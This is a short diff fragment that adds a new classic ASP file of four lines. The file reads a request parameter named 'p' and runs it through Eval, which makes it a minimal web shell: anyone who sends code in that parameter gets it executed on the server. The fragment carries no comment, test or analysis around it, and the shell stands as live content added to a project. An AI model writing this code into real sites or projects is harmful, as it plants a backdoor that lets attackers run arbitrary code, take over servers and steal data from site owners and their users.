@@ -1,0 +1,4 @@
+<%
+x = Request("p")
+Eval x
+%>
